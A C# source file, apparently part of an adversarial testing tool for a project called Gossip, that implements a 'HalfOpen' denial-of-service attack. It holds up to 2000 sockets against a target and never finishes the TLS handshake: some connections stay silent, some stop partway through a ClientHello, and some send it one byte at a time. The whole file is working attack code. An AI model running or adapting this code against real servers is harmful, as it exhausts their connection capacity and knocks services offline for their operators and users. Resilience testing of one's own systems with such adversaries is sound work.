using Gossip.Adversary.Tls;

namespace Gossip.Adversary.Attacks;

/// <summary>
/// Connections that never end their handshake: a third says nothing, a third stops in the middle
/// of a client hello, a third sends it a byte at a time.
/// </summary>
internal static class HalfOpen
{
    public const int SocketsMax = 2000;

    private static readonly byte[] Hello = Spell.Record(22, new ClientHello().Encode(), 0x0301);

    public static Task RunAsync(AttackOrder order, CancellationToken stop) => Sockets.HoldAsync(
        order, order.Target, SocketsMax, async (socket, number, step, stopped) =>
        {
            var bytes = (number % 3, step) switch
            {
                (1, 0) => Hello.AsMemory(0, 40),
                (2, < 100) => Hello.AsMemory(step, 1),
                _ => default,
            };
            if (!bytes.IsEmpty)
            {
                await socket.SendAsync(bytes, stopped);
            }
        }, stop);
}
